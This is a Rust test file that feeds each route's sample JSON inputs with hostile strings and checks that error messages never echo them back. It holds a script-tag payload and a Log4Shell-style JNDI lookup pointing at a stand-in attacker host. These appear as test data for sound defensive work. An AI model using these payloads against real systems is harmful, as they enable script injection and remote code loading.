//! Hostile input never comes back: every route's input check is fed each of its samples with
//! every string replaced by hostile strings (a script tag, a JNDI lookup, control
//! characters, 300 KB), hostile keys added, and hostile whole payloads; no error message
//! (which becomes the Lambda error, the log line and the dead-letter record) contains them.

use serde_json::{Value, json};
use steward_functions::routes;

fn root() -> std::path::PathBuf {
    std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
}

fn hostile() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "\u{0}\u{1b}[31mred\r\n\u{7f}".to_owned(),
        "A".repeat(300 * 1024),
    ]
}

/// What must never appear in a message: each hostile string's telling part.
fn markers() -> Vec<String> {
    vec![
        "<script>".to_owned(),
        "jndi:".to_owned(),
        "\u{1b}".to_owned(),
        "\u{0}".to_owned(),
        "\u{7f}".to_owned(),
        "A".repeat(64),
    ]
}

/// Every JSON pointer to a string leaf or an object of `v`.
fn places(v: &Value, at: String, strings: &mut Vec<String>, objects: &mut Vec<String>) {
    match v {
        Value::String(_) => strings.push(at),
        Value::Object(m) => {
            objects.push(at.clone());
            for (k, x) in m {
                places(
                    x,
                    format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                    strings,
                    objects,
                );
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                places(x, format!("{at}/{i}"), strings, objects);
            }
        }
        _ => {}
    }
}

fn mutations(sample: &Value) -> Vec<Value> {
    let (mut strings, mut objects) = (Vec::new(), Vec::new());
    places(sample, String::new(), &mut strings, &mut objects);
    let mut out = Vec::new();
    for h in hostile() {
        for p in &strings {
            let mut v = sample.clone();
            *v.pointer_mut(p).expect("a string leaf") = Value::String(h.clone());
            out.push(v);
        }
        for p in &objects {
            let mut v = sample.clone();
            if let Some(Value::Object(m)) = v.pointer_mut(p) {
                m.insert(h.clone(), json!(1));
            }
            out.push(v);
        }
        out.push(Value::String(h.clone()));
        out.push(json!([h.clone()]));
        out.push(json!({ h.clone(): h.clone() }));
    }
    out
}

#[test]
fn no_route_echoes_hostile_input_in_an_error() {
    let markers = markers();
    let mut refused = 0;
    let mut checked = 0;
    for route in routes() {
        for path in route.samples {
            let text = std::fs::read_to_string(root().join(path)).expect("sample");
            let sample: Value = serde_json::from_str(&text).expect("sample JSON");
            for event in mutations(&sample) {
                checked += 1;
                if let Err(e) = (route.input)(event) {
                    refused += 1;
                    let message = e.to_string();
                    let diagnostic = steward_functions::diagnostic(&e);
                    for m in &markers {
                        assert!(
                            !message.contains(m.as_str())
                                && !diagnostic.error_message.contains(m.as_str()),
                            "{}: {path}: an error quotes its input: {}",
                            route.name,
                            message.chars().take(300).collect::<String>()
                        );
                    }
                    assert!(
                        message.len() < 2048,
                        "{}: {path}: a {}-byte error message",
                        route.name,
                        message.len()
                    );
                }
            }
        }
    }
    // The corpus is not vacuous: most mutations are refused.
    assert!(
        checked > 1000 && refused * 2 > checked,
        "{refused} of {checked} refused"
    );
}
